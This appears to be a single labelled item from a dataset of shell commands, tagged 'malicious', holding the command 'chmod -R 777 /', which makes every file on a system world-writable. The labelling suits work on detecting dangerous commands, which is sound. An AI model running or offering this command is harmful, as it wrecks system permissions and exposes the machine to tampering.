# label: malicious
chmod -R 777 /
